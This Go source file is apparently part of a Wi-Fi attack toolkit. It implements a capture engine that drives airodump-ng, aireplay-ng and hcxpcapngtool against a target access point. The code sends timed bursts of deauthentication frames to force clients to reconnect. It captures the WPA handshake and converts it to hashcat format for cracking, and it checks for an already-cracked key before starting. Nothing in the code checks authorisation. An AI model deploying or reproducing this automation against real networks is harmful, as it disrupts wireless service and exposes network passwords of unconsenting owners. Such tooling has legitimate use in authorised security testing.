// Package capture implements the Capture Engine (§4.D): a state machine
// owning at most one CaptureSession, driving airodump-ng, aireplay-ng and
// hcxpcapngtool through the Tool Adapter. Grounded on the teacher's WPS
// attack engine (internal/adapters/attack/wps in the source tree this was
// distilled from) for the spawn/supervise/kill-process-group shape, and on
// its channel-lock reference counting for the "only one active session"
// discipline — here delegated wholesale to the Scheduler.
package capture

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"sync"
	"syscall"
	"time"

	"go.opentelemetry.io/otel"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/trace"

	"github.com/jobsdonn/PenDonn/internal/adapters/toolrunner"
	"github.com/jobsdonn/PenDonn/internal/core/domain"
	"github.com/jobsdonn/PenDonn/internal/core/ports"
	"github.com/jobsdonn/PenDonn/internal/core/services/scheduler"
	"github.com/jobsdonn/PenDonn/internal/telemetry"
)

var tracer = otel.Tracer("capture-engine")

// execCommandContext is a package-level seam for tests.
var execCommandContext = exec.CommandContext

// Config holds the capture engine's tuning knobs (§9 open question:
// cooldown and burst counts are overridable by the harness).
type Config struct {
	HandshakeDir       string
	HandshakeTimeout   time.Duration // base timeout
	CooldownSeconds    int
	DeauthBurstSize    int
	DeauthBurstCount   int
	DeauthBurstSpacing time.Duration
	WarmUp             time.Duration // 2s
	DeauthGrace        time.Duration // 5s
	VerifyInterval     time.Duration // 5s
	VerifyMinDelay     time.Duration // 10s after deauth
}

// DefaultConfig returns the §4.D/§5 defaults.
func DefaultConfig() Config {
	return Config{
		HandshakeDir:       "./handshakes",
		HandshakeTimeout:   120 * time.Second,
		CooldownSeconds:    300,
		DeauthBurstSize:    20,
		DeauthBurstCount:   2,
		DeauthBurstSpacing: 10 * time.Second,
		WarmUp:             2 * time.Second,
		DeauthGrace:        5 * time.Second,
		VerifyInterval:     5 * time.Second,
		VerifyMinDelay:     10 * time.Second,
	}
}

// Engine is the default ports.CaptureEngine implementation.
type Engine struct {
	cfg       Config
	registry  ports.InterfaceRegistry
	runner    ports.ToolRunner
	store     ports.Storage
	scheduler *scheduler.Scheduler
	logger    *slog.Logger

	mu       sync.Mutex
	session  *domain.CaptureSession
	cooldown map[string]time.Time
}

// NewEngine builds a capture Engine and registers it as the Scheduler's
// capture-interrupt callback.
func NewEngine(cfg Config, registry ports.InterfaceRegistry, runner ports.ToolRunner, store ports.Storage, sched *scheduler.Scheduler, logger *slog.Logger) *Engine {
	if logger == nil {
		logger = slog.Default()
	}
	e := &Engine{
		cfg:       cfg,
		registry:  registry,
		runner:    runner,
		store:     store,
		scheduler: sched,
		logger:    logger,
		cooldown:  make(map[string]time.Time),
	}
	sched.OnCaptureInterrupt(func(ctx context.Context) { e.Abort(ctx) })
	return e
}

func (e *Engine) Active() bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.session != nil
}

// eligible reports whether bssid may start a new capture: not cooled down
// and no permanent CrackedKey exists.
func (e *Engine) eligible(ctx context.Context, bssid string) bool {
	e.mu.Lock()
	until, cooling := e.cooldown[bssid]
	e.mu.Unlock()
	if cooling && time.Now().Before(until) {
		return false
	}

	key, err := e.store.KeyFor(ctx, bssid)
	if err != nil {
		e.logger.Warn("capture: checking cracked-key eligibility failed", "bssid", bssid, "error", err)
		return true
	}
	return key == nil
}

// Start is callable only when no other capture is active, enumeration is
// not active, and bssid's cooldown has elapsed (§4.D).
func (e *Engine) Start(ctx context.Context, bssid, ssid string, channel int) bool {
	if !e.eligible(ctx, bssid) {
		return false
	}
	if !e.scheduler.TryBeginCapture(bssid) {
		return false
	}

	monitor := e.registry.Monitor()
	if err := e.registry.AssertNotManagement(monitor); err != nil {
		e.logger.Error("capture: refusing to use management NIC", "error", err)
		e.scheduler.EndCapture(bssid)
		return false
	}

	basePath := e.basePath(bssid)
	session := &domain.CaptureSession{
		BSSID:     bssid,
		SSID:      ssid,
		Channel:   channel,
		FilePath:  basePath,
		State:     domain.CaptureStateArming,
		StartTime: time.Now(),
	}

	e.mu.Lock()
	e.session = session
	e.mu.Unlock()

	telemetry.CapturesStarted.WithLabelValues().Inc()
	telemetry.ActiveCaptures.Set(1)

	go e.run(ctx, session, monitor)
	return true
}

func (e *Engine) basePath(bssid string) string {
	hex := sanitizeBSSID(bssid)
	stamp := time.Now().UTC().Format("20060102T150405Z")
	p := filepath.Join(e.cfg.HandshakeDir, fmt.Sprintf("%s_%s", hex, stamp))
	if abs, err := filepath.Abs(p); err == nil {
		return abs
	}
	return p
}

func sanitizeBSSID(bssid string) string {
	out := make([]byte, 0, len(bssid))
	for i := 0; i < len(bssid); i++ {
		if bssid[i] != ':' {
			out = append(out, bssid[i])
		}
	}
	return string(out)
}

// capPath returns the actual .cap file airodump-ng writes: its own "-01"
// suffix convention appended to basePath.
func capPath(basePath string) string {
	return basePath + "-01.cap"
}

func (e *Engine) run(ctx context.Context, session *domain.CaptureSession, monitorNIC string) {
	ctx, span := tracer.Start(ctx, "CaptureSession")
	span.SetAttributes(
		attribute.String("capture.bssid", session.BSSID),
		attribute.String("capture.ssid", session.SSID),
		attribute.Int("capture.channel", session.Channel),
	)
	defer span.End()

	defer func() {
		e.mu.Lock()
		e.session = nil
		e.mu.Unlock()
		e.scheduler.EndCapture(session.BSSID)
		telemetry.ActiveCaptures.Set(0)
	}()

	if err := os.MkdirAll(e.cfg.HandshakeDir, 0o755); err != nil {
		e.logger.Error("capture: cannot create handshake dir", "error", err)
		e.finalize(ctx, session, false)
		return
	}

	deadline := time.Now().Add(2 * e.cfg.HandshakeTimeout)
	captureCtx, cancel := context.WithDeadline(ctx, deadline)
	defer cancel()

	cmd := execCommandContext(captureCtx, "airodump-ng",
		"--bssid", session.BSSID,
		"--channel", fmt.Sprintf("%d", session.Channel),
		"--write", session.FilePath,
		"--output-format", "pcap",
		monitorNIC,
	)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}

	if err := cmd.Start(); err != nil {
		e.logger.Error("capture: failed to start airodump-ng", "error", err)
		e.finalize(ctx, session, false)
		return
	}
	session.Process = cmd

	time.Sleep(e.cfg.WarmUp)
	if cmd.ProcessState != nil {
		e.logger.Warn("capture: airodump-ng died during warm-up", "bssid", session.BSSID)
		e.finalize(ctx, session, false)
		return
	}
	session.State = domain.CaptureStateListening

	select {
	case <-time.After(e.cfg.DeauthGrace):
	case <-captureCtx.Done():
		e.finalize(ctx, session, false)
		return
	}

	session.State = domain.CaptureStateDeauthing
	e.deauthLoop(captureCtx, session, monitorNIC)

	// Computed only now: DeauthWarning may have just been set by deauthLoop,
	// and the 1.5x extension (§4.D/§8) must see its final value.
	budget := session.EffectiveTimeout(e.cfg.HandshakeTimeout)
	success := e.verifyLoop(captureCtx, session, budget)
	e.killChild(cmd)
	e.finalize(ctx, session, success)
}

func (e *Engine) deauthLoop(ctx context.Context, session *domain.CaptureSession, monitorNIC string) {
	// Defensive: explicitly set the channel even though airodump already
	// locked it (§4.D).
	_, _ = e.runner.Run(ctx, "iw", []string{monitorNIC, "set", "channel", fmt.Sprintf("%d", session.Channel)}, 5*time.Second, nil)

	for i := 0; i < e.cfg.DeauthBurstCount; i++ {
		if i > 0 {
			select {
			case <-time.After(e.cfg.DeauthBurstSpacing):
			case <-ctx.Done():
				return
			}
		}
		e.sendDeauthBurst(ctx, session, monitorNIC)
	}
}

func (e *Engine) sendDeauthBurst(ctx context.Context, session *domain.CaptureSession, monitorNIC string) {
	result, err := e.runner.Run(ctx, "aireplay-ng",
		[]string{"--deauth", fmt.Sprintf("%d", e.cfg.DeauthBurstSize), "-a", session.BSSID, "-D", monitorNIC},
		30*time.Second, nil)

	outcome := toolrunner.ClassifyDeauthOutcome(result.Stdout, err)
	telemetry.DeauthBurstsSent.WithLabelValues(string(outcome)).Inc()

	switch outcome {
	case toolrunner.DeauthBSSIDNotVisible:
		session.DeauthWarning = true
		e.logger.Warn("capture: bssid not visible at deauth time, extending timeout", "bssid", session.BSSID)
	case toolrunner.DeauthFatal:
		e.logger.Warn("capture: deauth reported a fatal condition, proceeding anyway", "bssid", session.BSSID, "error", err)
	case toolrunner.DeauthBenignBusy:
		e.logger.Debug("capture: deauth hit a benign/retryable condition", "bssid", session.BSSID)
	}

	session.DeauthSent = true
	session.DeauthTime = time.Now()
	session.BurstsSent++
}

// verifyLoop polls every VerifyInterval once VerifyMinDelay has elapsed
// since the deauth timestamp, using hcxpcapngtool as the sole accepted
// proof of handshake capture (§4.D — aircrack-ng text matching is never
// used as the verifier).
func (e *Engine) verifyLoop(ctx context.Context, session *domain.CaptureSession, budget time.Duration) bool {
	session.State = domain.CaptureStateVerifying
	deadline := session.StartTime.Add(budget)

	ticker := time.NewTicker(e.cfg.VerifyInterval)
	defer ticker.Stop()

	for {
		select {
		case <-ctx.Done():
			return false
		case now := <-ticker.C:
			if now.After(deadline) {
				session.State = domain.CaptureStateTimeout
				return false
			}
			if !session.DeauthSent || now.Sub(session.DeauthTime) < e.cfg.VerifyMinDelay {
				continue
			}
			if e.verifyHandshake(ctx, session) {
				session.State = domain.CaptureStateDone
				return true
			}
		}
	}
}

func (e *Engine) verifyHandshake(ctx context.Context, session *domain.CaptureSession) bool {
	cap := capPath(session.FilePath)
	info, err := os.Stat(cap)
	if err != nil || info.Size() < 1024 {
		return false
	}

	outPath := session.FilePath + ".22000"
	_, err = e.runner.Run(ctx, "hcxpcapngtool", []string{"-o", outPath, cap}, 30*time.Second, nil)
	if err != nil && ports.KindOf(err) == ports.KindToolMissing {
		e.logger.Error("capture: hcxpcapngtool not installed, cannot verify handshakes", "error", err)
		return false
	}

	outInfo, statErr := os.Stat(outPath)
	if statErr != nil {
		return false
	}
	return toolrunner.HCXPcapngHasHandshake(outInfo.Size())
}

func (e *Engine) killChild(cmd *exec.Cmd) {
	if cmd.Process == nil {
		return
	}
	_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGTERM)
	done := make(chan struct{})
	go func() { _ = cmd.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
	}
}

// finalize inserts a Handshake row on success, deletes the .cap on
// failure, and updates the per-BSSID cooldown unconditionally (§4.D).
func (e *Engine) finalize(ctx context.Context, session *domain.CaptureSession, success bool) {
	trace.SpanFromContext(ctx).SetAttributes(
		attribute.Bool("capture.success", success),
		attribute.String("capture.final_state", string(session.State)),
	)

	e.mu.Lock()
	e.cooldown[session.BSSID] = time.Now().Add(time.Duration(e.cfg.CooldownSeconds) * time.Second)
	e.mu.Unlock()

	cap := capPath(session.FilePath)

	if success {
		network, err := e.store.GetNetwork(ctx, session.BSSID)
		var networkID uint64
		if err == nil && network != nil {
			networkID = network.ID
		}

		quality := domain.HandshakeQualityUnknown
		if q, err := CensusQuality(cap); err == nil {
			quality = q
		}

		if _, err := e.store.InsertHandshake(ctx, domain.Handshake{
			NetworkID: networkID,
			BSSID:     session.BSSID,
			SSID:      session.SSID,
			FilePath:  cap,
			Quality:   quality,
		}); err != nil {
			e.logger.Error("capture: failed to insert handshake row", "bssid", session.BSSID, "error", err)
		}
		telemetry.CapturesFinished.WithLabelValues("success").Inc()
		e.logger.Info("capture: handshake captured", "bssid", session.BSSID, "file", cap)
		return
	}

	outcome := "failed"
	if session.State == domain.CaptureStateTimeout {
		outcome = "timeout"
	}
	telemetry.CapturesFinished.WithLabelValues(outcome).Inc()
	_ = os.Remove(cap)
	e.logger.Info("capture: session finalized without handshake", "bssid", session.BSSID, "state", session.State)
}

// Abort terminates any in-flight session immediately; invoked by the
// Scheduler when enumeration seizes the radio.
func (e *Engine) Abort(ctx context.Context) {
	e.mu.Lock()
	session := e.session
	e.mu.Unlock()
	if session == nil || session.Process == nil {
		return
	}
	e.killChild(session.Process)
}

var _ ports.CaptureEngine = (*Engine)(nil)
